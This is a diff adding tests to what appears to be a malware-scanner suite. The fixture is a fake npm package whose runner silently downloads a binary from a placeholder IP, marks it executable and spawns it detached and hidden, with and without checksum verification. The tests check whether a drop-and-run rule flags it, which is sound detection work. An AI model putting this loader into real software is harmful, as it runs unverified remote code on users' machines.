@@ -266,3 +266,61 @@ describe('credentials gathered by the package’s entry, loaded from its install
     expect(strong(analyzeSource(pkg(quiet)))).toEqual([]);
   });
 });
+
+describe('a program downloaded and run through one helper that also runs the cached copy', () => {
+  const runner = (verify: boolean) => ({
+    'package.json': JSON.stringify({ name: 'hookwell', version: '2.4.0', main: 'lib/index.js' }),
+    'lib/index.js': [
+      "const { ensure } = require('./runner');",
+      '// (Run by the git hooks the package installs: `hookwell run pre-commit`.)',
+      'exports.run = (hook) => { ensure(); return hook ? 0 : 1; };',
+    ].join('\n'),
+    'lib/runner.js': [
+      "const fs = require('fs');",
+      "const os = require('os');",
+      "const path = require('path');",
+      "const http = require('http');",
+      "const { spawn } = require('child_process');",
+      ...(verify ? ["const { verify } = require('./sums');"] : []),
+      "const dir = () => path.join(process.env.XDG_CACHE_HOME || path.join(os.homedir(), '.cache'), 'hookwell');",
+      "const file = () => path.join(dir(), process.platform === 'win32' ? 'runner.exe' : 'runner');",
+      'function start(f) {',
+      "  const child = spawn(f, ['--serve'], { detached: true, stdio: 'ignore', windowsHide: true });",
+      "  child.on('error', () => {});",
+      '  child.unref();',
+      '}',
+      'function ensure() {',
+      '  const f = file();',
+      '  if (fs.existsSync(f)) {',
+      '    start(f);',
+      '    return;',
+      '  }',
+      '  fs.mkdirSync(dir(), { recursive: true });',
+      "  http.get({ host: '203.0.113.50', port: 8088, path: `/runner/${process.platform}-${process.arch}` }, (res) => {",
+      '    const out = fs.createWriteStream(f, { mode: 0o755 });',
+      '    res.pipe(out);',
+      `    out.on('finish', () => out.close(() => ${verify ? 'verify(f) && ' : ''}start(f)));`,
+      '  });',
+      '}',
+      'module.exports = { ensure };',
+    ].join('\n'),
+    ...(verify && {
+      'lib/sums.js': [
+        "const crypto = require('crypto');",
+        "const fs = require('fs');",
+        "const SUMS = { 'linux-x64': '9f2c4e1d7a5b3c8e0f6a2d4b1c9e7f3a5d8b2c6e4f0a1d3b7c9e5f2a4d6b8c0e' };",
+        "exports.verify = (f) => crypto.createHash('sha256').update(fs.readFileSync(f)).digest('hex') === SUMS[`${process.platform}-${process.arch}`];",
+      ].join('\n'),
+    }),
+  });
+
+  it('the start walked before the download still completes the chain', () => {
+    const r = analyzeSource(runner(false));
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.5);
+    expect(r.risk_level).not.toBe('clean');
+  });
+
+  it('the same runner checking a checksum before it starts the download stays quiet', () => {
+    expect(ruleOf(analyzeSource(runner(true)), 'js.drop-and-run')).toBeUndefined();
+  });
+});
